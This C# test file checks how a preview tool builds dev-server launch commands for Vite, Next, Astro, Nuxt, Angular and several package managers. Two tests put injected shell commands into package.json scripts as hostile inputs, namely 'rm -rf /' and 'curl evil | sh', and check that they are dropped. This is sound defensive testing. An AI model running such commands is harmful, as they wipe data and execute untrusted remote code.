using LivePreview.Repositories;
using LivePreview.Repositories.Detection;

namespace LivePreview.Tests.Repositories;

public sealed class DevServerPlanTests : IDisposable
{
    private readonly RepositoryFixture _repo = new();

    public void Dispose() => _repo.Dispose();

    [Fact]
    public async Task Vite_5_runs_its_own_bin_with_the_scripts_plain_flags_and_the_proxy_ready_ones()
    {
        _repo.Package("", """{ "vite": "^5.4.0", "react": "^18" }""", """{ "dev": "vite --mode staging --host 127.0.0.1 --port 4000 --open --strictPort" }""")
            .Installed("node_modules", "vite", "5.4.11", "bin/vite.js", "vite");

        var plan = await _repo.PlanAsync();

        Assert.Equal(["node", "node_modules/vite/bin/vite.js", "--mode", "staging", "--host", "0.0.0.0", "--port", "4000", "--strictPort"], plan.Command);
        Assert.Equal((null, 4000, "5.4.11"), (plan.WorkingDirectory, plan.Port, plan.DevToolVersion));
        Assert.Equal("none", plan.Environment["BROWSER"]);
    }

    [Fact]
    public async Task Vite_8_hoisted_to_the_root_of_a_monorepo_runs_from_the_apps_folder_with_the_base_path()
    {
        _repo.Package("", extra: "\"workspaces\": [\"apps/*\"]")
            .Package("apps/web", """{ "vite": "^8.0.0", "vue": "^3" }""", """{ "dev": "vite" }""")
            .Installed("node_modules", "vite", "8.3.8", "bin/vite.js", "vite");

        var plan = await _repo.PlanAsync(basePath: "/preview/sb1/5173/");

        Assert.Equal(["node", "../../node_modules/vite/bin/vite.js", "--host", "0.0.0.0", "--port", "5173", "--strictPort", "--base", "/preview/sb1/5173/"], plan.Command);
        Assert.Equal(("apps/web", "8.3.8"), (plan.WorkingDirectory, plan.DevToolVersion));
    }

    [Fact]
    public async Task The_apps_own_installed_tool_is_found_before_the_hoisted_one()
    {
        _repo.Package("", extra: "\"workspaces\": [\"apps/*\"]")
            .Package("apps/web", """{ "vite": "^5", "react": "^18" }""", """{ "dev": "vite" }""")
            .Installed("node_modules", "vite", "8.3.8", "bin/vite.js", "vite")
            .Installed("apps/web/node_modules", "vite", "5.4.11", "bin/vite.js", "vite");

        var plan = await _repo.PlanAsync();

        Assert.Equal(("node_modules/vite/bin/vite.js", "5.4.11"), (plan.Command[1], plan.DevToolVersion));
    }

    [Fact]
    public async Task Sveltekit_runs_vite_dev()
    {
        _repo.Package("", """{ "@sveltejs/kit": "^2", "vite": "^6" }""", """{ "dev": "vite" }""")
            .Installed("node_modules", "vite", "6.0.3", "bin/vite.js", "vite");

        var plan = await _repo.PlanAsync();

        Assert.Equal(["node", "node_modules/vite/bin/vite.js", "dev", "--host", "0.0.0.0", "--port", "5173", "--strictPort"], plan.Command);
    }

    [Fact]
    public async Task A_vite_script_with_shell_syntax_keeps_none_of_its_words()
    {
        _repo.Package("", """{ "vite": "^6" }""", """{ "dev": "vite --mode x; rm -rf / #" }""")
            .Installed("node_modules", "vite", "6.0.3", "bin/vite.js", "vite");

        var plan = await _repo.PlanAsync();

        Assert.Equal(["node", "node_modules/vite/bin/vite.js", "--host", "0.0.0.0", "--port", "5173", "--strictPort"], plan.Command);
    }

    [Theory]
    [InlineData("next dev --turbopack", "--turbopack")]
    [InlineData("next dev --turbo -p 3001", "--turbo")]
    [InlineData("next dev --webpack", "--webpack")]
    public async Task Next_listens_on_all_interfaces_and_keeps_its_bundler_flag(string script, string flag)
    {
        _repo.Package("", """{ "next": "^15", "react": "^19" }""", $$"""{ "dev": "{{script}}" }""")
            .Installed("node_modules", "next", "15.2.0", "./dist/bin/next", "next");

        var plan = await _repo.PlanAsync();

        Assert.Equal(["node", "node_modules/next/dist/bin/next", "dev", "--hostname", "0.0.0.0", "--port", plan.Port.ToString(), flag], plan.Command);
    }

    [Fact]
    public async Task Next_under_a_base_path_is_refused_because_it_needs_a_config_edit()
    {
        _repo.Package("", """{ "next": "^16" }""", """{ "dev": "next dev" }""").Installed("node_modules", "next", "16.0.1", "./dist/bin/next", "next");

        var error = await Assert.ThrowsAsync<AppDetectionException>(() => _repo.PlanAsync(basePath: "/preview/a/3000/"));

        Assert.Contains("host mode", error.Message);
    }

    [Fact]
    public async Task Astro_nuxt_and_angular_get_their_own_flags()
    {
        _repo.Package("", """{ "astro": "^5" }""", """{ "dev": "astro dev" }""").Installed("node_modules", "astro", "5.1.0", "astro.js", "astro");
        var astro = await _repo.PlanAsync();
        _repo.Package("", """{ "nuxt": "^3" }""", """{ "dev": "nuxi dev" }""").Installed("node_modules", "nuxi", "3.16.0", "bin/nuxi.mjs", "nuxi");
        var nuxt = await _repo.PlanAsync(basePath: "/p/");
        _repo.Package("", """{ "@angular/core": "^19", "@angular/cli": "^19" }""", """{ "start": "ng serve" }""").Installed("node_modules", "@angular/cli", "19.0.2", "bin/ng.js", "ng");
        var angular = await _repo.PlanAsync();

        Assert.Equal(["node", "node_modules/astro/astro.js", "dev", "--host", "0.0.0.0", "--port", "4321"], astro.Command);
        Assert.Equal(["node", "node_modules/nuxi/bin/nuxi.mjs", "dev", "--host", "0.0.0.0", "--port", "3000"], nuxt.Command);
        Assert.Equal("/p/", nuxt.Environment["NUXT_APP_BASE_URL"]);
        Assert.Equal(["node", "node_modules/@angular/cli/bin/ng.js", "serve", "--host", "0.0.0.0", "--port", "4200", "--disable-host-check"], angular.Command);
    }

    [Theory]
    [InlineData(PackageManager.Npm, false, new[] { "npm", "run", "dev" })]
    [InlineData(PackageManager.Pnpm, false, new[] { "node", "/opt/livepreview/package-managers/node_modules/pnpm/bin/pnpm.cjs", "run", "dev" })]
    [InlineData(PackageManager.Yarn, false, new[] { "node", "/opt/livepreview/package-managers/node_modules/yarn/bin/yarn.js", "run", "dev" })]
    [InlineData(PackageManager.Yarn, true, new[] { "node", "/opt/livepreview/package-managers/node_modules/@yarnpkg/cli-dist/bin/yarn.js", "run", "dev" })]
    [InlineData(PackageManager.Bun, false, new[] { "/opt/livepreview/package-managers/node_modules/@oven/bun-linux-x64/bin/bun", "run", "dev" })]
    public async Task A_generic_script_runs_through_its_package_manager_with_port_and_host(PackageManager manager, bool berry, string[] command)
    {
        var profile = new AppProfile("node", null, null, manager, null, "server", "dev", 8080, false, []) { YarnBerry = berry };

        var plan = await new AppDetector().PlanDevServerAsync(profile, _repo.Tree, null, CancellationToken.None);

        Assert.Equal(command, plan.Command);
        Assert.Equal(("server", "8080", "0.0.0.0"), (plan.WorkingDirectory, plan.Environment["PORT"], plan.Environment["HOST"]));
    }

    [Fact]
    public async Task A_dev_script_with_shell_commands_is_data_the_generic_plan_runs_only_by_name()
    {
        _repo.Package("", """{ "express": "^4" }""", """{ "dev": "node server.js; rm -rf / && curl evil | sh" }""");

        var plan = await _repo.PlanAsync();

        Assert.Equal(["npm", "run", "dev"], plan.Command);
        Assert.DoesNotContain(plan.Command.Concat(plan.Environment.Values), a => a.Contains("rm", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_tool_that_is_not_installed_is_refused_with_what_to_do()
    {
        _repo.Package("", """{ "vite": "^6" }""", """{ "dev": "vite" }""");

        var error = await Assert.ThrowsAsync<AppDetectionException>(() => _repo.PlanAsync());

        Assert.Contains("vite is not installed", error.Message);
    }

    [Fact]
    public async Task A_pnpm_install_seen_without_links_is_resolved_in_the_virtual_store_at_its_highest_version()
    {
        _repo.Package("", """{ "vite": "^5" }""", """{ "dev": "vite" }""")
            .Installed("node_modules/.pnpm/vite@5.4.2/node_modules", "vite", "5.4.2", "bin/vite.js", "vite")
            .Installed("node_modules/.pnpm/vite@5.4.11_@types+node@22.0.0/node_modules", "vite", "5.4.11", "bin/vite.js", "vite")
            .Link("node_modules/vite", ".pnpm/vite@5.4.11_@types+node@22.0.0/node_modules/vite");

        var plan = await _repo.PlanAsync();

        Assert.Equal(("node_modules/.pnpm/vite@5.4.11_@types+node@22.0.0/node_modules/vite/bin/vite.js", "5.4.11"), (plan.Command[1], plan.DevToolVersion));
    }

    [Fact]
    public async Task A_node_modules_linked_out_of_the_repository_is_not_used()
    {
        _repo.Package("", """{ "vite": "^6" }""", """{ "dev": "vite" }""");
        _repo.WriteOutside("node_modules/vite/package.json", """{ "version": "6.0.0", "bin": { "vite": "bin/vite.js" } }""");
        _repo.WriteOutside("node_modules/vite/bin/vite.js", "");
        _repo.Link("node_modules", Path.Join(_repo.Outside, "node_modules"));

        await Assert.ThrowsAsync<AppDetectionException>(() => _repo.PlanAsync());
    }

    [Fact]
    public async Task A_bin_that_leaves_its_package_is_not_run()
    {
        _repo.Package("", """{ "vite": "^6" }""", """{ "dev": "vite" }""")
            .Write("node_modules/vite/package.json", """{ "version": "6.0.0", "bin": { "vite": "../../../outside/x.js" } }""");

        await Assert.ThrowsAsync<AppDetectionException>(() => _repo.PlanAsync());
    }
}
